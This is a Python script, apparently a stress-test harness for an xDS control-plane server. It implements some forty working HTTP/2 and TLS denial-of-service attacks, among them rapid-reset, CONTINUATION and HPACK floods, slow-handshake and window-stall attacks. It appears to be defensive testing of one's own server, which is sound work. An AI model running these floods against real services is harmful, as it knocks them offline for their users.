"""Abuses an xDS port by raw frames until told to stop, on as many connections as the server lets it have.

    abuse.py HOST:PORT NODE ATTACK SECONDS

Written with sockets alone: it shares no code with the server, and sends what no library would. It ends with one line that says how many
connections it opened, how many bytes it sent, how its connections ended, and how many seconds they lived, the shortest and the longest.
XDS_ABUSE_PAIR names a directory with tls.crt and tls.key for those who show a certificate.
"""

import collections
import os
import select
import socket
import ssl
import struct
import sys
import threading
import time

DELTA = "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources"
WORLD = "/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources"
LISTENER = "type.googleapis.com/envoy.config.listener.v3.Listener"
ENDPOINT = "type.googleapis.com/envoy.config.endpoint.v3.ClusterLoadAssignment"


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def string(text):
    text = text if isinstance(text, bytes) else text.encode()
    if len(text) < 127:
        return bytes([len(text)]) + text
    head, rest = bytearray([127]), len(text) - 127
    while rest >= 128:
        head.append(rest & 127 | 128)
        rest >>= 7
    return bytes(head + bytes([rest])) + text


def block(fields):
    return b"\x20" + b"".join(b"\0" + string(name) + string(value) for name, value in fields)


def headers(stream, path=DELTA, more=(), flags=4):
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x"), ("content-type", "application/grpc")]
    return frame(1, flags, stream, block(fields + list(more)))


def reset(stream):
    return frame(3, 0, stream, struct.pack(">I", 8))


def window(increment, stream=0):
    return frame(8, 0, stream, struct.pack(">I", increment))


def varint(number):
    out = bytearray()
    while number >= 128:
        out.append(number & 127 | 128)
        number >>= 7
    return bytes(out + bytes([number]))


def field(number, value):
    value = value if isinstance(value, bytes) else value.encode()
    return varint(number << 3 | 2) + varint(len(value)) + value


def message(body):
    return b"\0" + struct.pack(">I", len(body)) + body


def data(stream, payload):
    return b"".join(frame(0, 0, stream, payload[at : at + 16384]) for at in range(0, len(payload), 16384))


def request(node, type_url=LISTENER, more=b"", nonce=""):
    return field(1, field(1, node)) + field(2, type_url) + more + (field(6, nonce) if nonce else b"")


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4) + frame(4, 1)
WIDE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, struct.pack(">HI", 4, 0x7FFFFFFF)) + frame(4, 1) + window(0x7FFE0000)
CLOSED = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, struct.pack(">HI", 4, 0)) + frame(4, 1)


class Attack:
    """What is sent on a connection: the beginning, and then rounds; whether answers are read, or are the end; how many connections there are
    at once, and in all."""

    def __init__(self, begin, rounds=None, reads=True, connections=8, pause=0.0, hangs_up=False, limit=None):
        self.begin, self.rounds, self.reads, self.connections, self.pause = begin, rounds, reads, connections, pause
        self.hangs_up, self.limit = hangs_up, limit or 200 * connections


def streams(then, path=DELTA):
    return lambda number, node: b"".join(
        headers(stream, path) + then(stream) for stream in range(number * 100 + 3, number * 100 + 103, 2)
    )


def opened(more=b""):
    return lambda node: PREFACE + headers(1) + more


def identified(preface=PREFACE, more=b"", type_url=LISTENER, path=DELTA):
    return lambda node: preface + headers(1, path) + data(1, message(request(node, type_url, more)))


def repeat(piece, count=500):
    return lambda number, node: piece * count


def client(certificate=None):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    if certificate:
        context.load_cert_chain(f"{certificate}/tls.crt", f"{certificate}/tls.key")
    return context


def client_hello():
    """Bytes that make the server derive keys and sign, and cost whoever sends them again nothing."""
    outgoing = ssl.MemoryBIO()
    try:
        client().wrap_bio(ssl.MemoryBIO(), outgoing).do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()


CLIENT_HELLO = client_hello()


def acknowledged(number, node):
    """Answers to what was never read, under every nonce that it may have."""
    return b"".join(data(1, message(request(node, LISTENER, nonce=f"{nonce:08x}"))) for nonce in range(8))


def new_names(number, node):
    """Names that were never named before."""
    names = b"".join(field(3, f"{node}-{number}-{index}-{'x' * 60}") for index in range(2000))
    return data(1, message(request(node, ENDPOINT, names)))



SMALL_ENTRIES = b"".join(b"\x2a\x08\x0a\x06" + b"%06x" % index for index in range(3_000_000))
EMPTY_NAMES = b"\x1a\x00" * 15_000_000


ATTACKS = {
    "rapid-reset": Attack(lambda node: PREFACE, streams(reset)),
    "made-you-reset": Attack(lambda node: PREFACE, streams(lambda stream: window(0x7FFFFFFF, stream))),
    "made-you-reset-zero": Attack(lambda node: PREFACE, streams(lambda stream: window(0, stream))),
    "continuation": Attack(lambda node: PREFACE + frame(1, 0, 1, b"\x20"), repeat(frame(9, 0, 1, b"\x83" * 100))),
    "empty-continuation": Attack(lambda node: PREFACE + frame(1, 0, 1, b"\x20"), repeat(frame(9, 0, 1))),
    "ping": Attack(opened(), repeat(frame(6, 0, 0, b"12345678"))),
    "ping-unread": Attack(opened(), repeat(frame(6, 0, 0, b"12345678")), reads=False),
    "settings": Attack(opened(), repeat(frame(4, 0, 0, struct.pack(">HI", 4, 65535)))),
    "settings-unread": Attack(opened(), repeat(frame(4)), reads=False),
    "priority": Attack(opened(), repeat(frame(2, 0, 1, b"\0\0\0\0\x09"))),
    "empty-data": Attack(opened(), repeat(frame(0, 0, 1))),
    "tiny-data": Attack(opened(), repeat(frame(0, 0, 1, b"\0"))),
    "window-update": Attack(opened(), repeat(window(1))),
    "hpack": Attack(
        lambda node: PREFACE,
        lambda number, node: frame(1, 4, 2 * number + 1, b"\x20\x83\x86\x84" + b"\x90" * 16_000),
    ),
    # Far more connections than ever ask for anything.
    "slow-preface": Attack(lambda node: b"PRI * HT", connections=500),
    "slow-headers": Attack(lambda node: PREFACE + frame(1, 0, 1, b"\x20"), connections=500),
    "idle": Attack(lambda node: PREFACE, connections=500),
    "silent-streams": Attack(
        lambda node: PREFACE + b"".join(headers(stream) for stream in range(1, 201, 2)), connections=50
    ),
    "http1": Attack(lambda node: b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", connections=50),
    "tls": Attack(lambda node: b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"x" * 500, connections=50),
    # A record that says how long it is, and half of it.
    "tls-unfinished": Attack(lambda node: b"\x16\x03\x01\x40\0\x01\0\x3f\xfc\x03\x03" + b"x" * 8000, connections=500),
    # Answered, and then left alone; and one whose bytes come one by one.
    "tls-cut-off": Attack(lambda node: CLIENT_HELLO, connections=32, hangs_up=True, limit=1_000_000),
    "tls-slow": Attack(
        lambda node: CLIENT_HELLO[:1], lambda number, node: CLIENT_HELLO[number + 1 : number + 2], connections=300, pause=0.02
    ),
    "garbage": Attack(lambda node: b"\xff" * 1000, connections=50),
    # Everything is asked for and nothing is taken.
    "zero-window": Attack(identified(CLOSED, field(3, "*")), connections=50),
    "unread": Attack(identified(WIDE, field(3, "*")), repeat(data(1, message(field(2, LISTENER) + field(3, "*"))), 10), reads=False, pause=0.01),
    "acknowledged-unread": Attack(
        identified(CLOSED, field(3, "*")),
        lambda number, node: b"".join(
            data(1, message(request(node, LISTENER, field(4, "*"), nonce="%08x" % nonce)))
            + data(1, message(request(node, LISTENER, field(3, "*"))))
            for nonce in range(number * 20, number * 20 + 20)
        ),
        pause=0.02,
    ),
    # So seldom that nothing but the time they take gives them away: with no window, and with one that the socket has no room for.
    "stalled-window": Attack(identified(CLOSED, field(3, "*")), acknowledged, connections=50, pause=0.2, limit=50),
    "stalled-socket": Attack(
        lambda node: WIDE
        + b"".join(headers(stream) + data(stream, message(request(node, LISTENER, field(3, "*")))) for stream in range(1, 101, 2)),
        acknowledged,
        reads=False,
        connections=20,
        pause=0.2,
        limit=20,
    ),
    # What the layers above HTTP/2 must withstand.
    "huge-prefix": Attack(opened(frame(0, 0, 1, b"\0\xff\xff\xff\xff")), connections=50),
    "unfinished-messages": Attack(
        lambda node: PREFACE + b"".join(headers(stream) + frame(0, 0, stream, b"\0\x02\0\0\0") for stream in range(1, 65, 2)),
        lambda number, node: frame(0, 0, 1 + 2 * (number % 32), b"x" * 16_000),
        connections=16,
    ),
    "compressed": Attack(opened(frame(0, 0, 1, b"\1\0\0\0\1x")), connections=50),
    "not-protobuf": Attack(opened(data(1, message(b"\xff" * 100))), connections=50),
    "empty-messages": Attack(identified(), lambda number, node: data(1, message(b"") * 3000)),
    "unknown-types": Attack(identified(), repeat(data(1, message(field(2, "type.googleapis.com/no.Such"))), 200)),
    "endless-names": Attack(identified(type_url=ENDPOINT), new_names, connections=4),
    "many-streams": Attack(
        lambda node: PREFACE
        + b"".join(headers(stream) + data(stream, message(request(node, LISTENER, field(3, "*")))) for stream in range(1, 201, 2)),
        connections=20,
    ),
    "small-entries": Attack(lambda node: PREFACE + headers(1) + data(1, message(request(node) + SMALL_ENTRIES)), connections=2),
    "empty-names": Attack(lambda node: PREFACE + headers(1) + data(1, message(request(node) + EMPTY_NAMES)), connections=2),
    "request-churn": Attack(lambda node: PREFACE, streams(lambda stream: b"", "/no.Such/Method")),
    "stream-churn": Attack(
        lambda node: PREFACE,
        lambda number, node: b"".join(
            headers(stream) + data(stream, message(request(node))) + reset(stream)
            for stream in range(number * 40 + 1, number * 40 + 41, 2)
        ),
    ),
}


class Connection:
    def __init__(self, address, node, attack):
        self.attack, self.node, self.number, self.input, self.due = attack, node, 0, b"", 0.0
        self.begun = time.monotonic()
        self.socket = socket.socket()
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if not attack.reads:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.socket.connect(address)
        self.socket.setblocking(False)
        self.unsent = memoryview(attack.begin(node))

    def fileno(self):
        return self.socket.fileno()

    def wants_to_write(self):
        return bool(self.unsent) or (self.attack.rounds is not None and time.monotonic() >= self.due)

    def write(self):
        if not self.unsent and self.attack.rounds is not None:
            self.unsent = memoryview(self.attack.rounds(self.number, self.node))
            self.number += 1
            self.due = time.monotonic() + self.attack.pause
        count = self.socket.send(self.unsent[: 1 << 18])
        self.unsent = self.unsent[count:]
        return count

    def read(self):
        """Whether the server goes on."""
        received = self.socket.recv(1 << 16)
        self.input = (self.input + received)[-4096:]
        return bool(received) and not self.attack.hangs_up

    def ending(self):
        """The error code of the last GOAWAY, as far as it stands at the end of the input."""
        at = self.input.rfind(b"\x07\0\0\0\0\0")
        return f"goaway-{struct.unpack('>I', self.input[at + 10 : at + 14])[0]}" if at >= 3 and at + 14 <= len(self.input) else "closed"


def shake_hands(address, seconds, certificate=None):
    """Eight clients without a certificate, or with a wrong one, shake hands over and over: each time the server signs, and then refuses them."""
    context = client(certificate)
    endings, end = collections.Counter(), time.monotonic() + seconds

    def play():
        while time.monotonic() < end:
            try:
                with socket.create_connection(address, 5) as plain, context.wrap_socket(plain) as secured:
                    endings["served" if secured.recv(1) else "closed"] += 1
            except ssl.SSLError as error:
                endings[error.reason] += 1
            except OSError as error:
                endings[f"error-{error.errno}"] += 1

    threads = [threading.Thread(target=play) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(f"connections={endings.total()} endings={dict(endings)}", flush=True)


def main():
    host, port = sys.argv[1].rsplit(":", 1)
    if sys.argv[3] in ("tls-handshakes", "tls-strangers"):
        print("begun", flush=True)
        pair = os.environ["XDS_ABUSE_PAIR"] if sys.argv[3] == "tls-strangers" else None
        return shake_hands((host, int(port)), float(sys.argv[4]), pair)
    node, attack, seconds = sys.argv[2], ATTACKS[sys.argv[3]], float(sys.argv[4])
    connections, endings, lives, sent, count = [], collections.Counter(), [], 0, 0
    end = time.monotonic() + seconds
    print("begun", flush=True)
    while time.monotonic() < end and (connections or count < attack.limit):
        while len(connections) < attack.connections and count < attack.limit:
            count += 1
            try:
                connections.append(Connection((host, int(port)), node, attack))
            except OSError as error:
                endings[f"connect-{error.errno}"] += 1
                break
        readers = [connection for connection in connections if attack.reads]
        writers = [connection for connection in connections if connection.wants_to_write()]
        readable, writable, _ = select.select(readers, writers, [], 0.01)
        gone = []
        for connection in readable:
            try:
                if not connection.read():
                    gone.append(connection)
            except BlockingIOError:
                pass
            except OSError:
                gone.append(connection)
        for connection in writable:
            if connection in gone:
                continue
            try:
                sent += connection.write()
            except BlockingIOError:
                pass
            except OSError:
                gone.append(connection)
        for connection in gone:
            endings[connection.ending()] += 1
            lives.append(time.monotonic() - connection.begun)
            connection.socket.close()
            connections.remove(connection)
    lived = f"{min(lives):.2f}-{max(lives):.2f}" if lives else "-"
    print(f"connections={count} sent={sent} open={len(connections)} lived={lived} endings={dict(endings)}", flush=True)


if __name__ == "__main__":
    main()
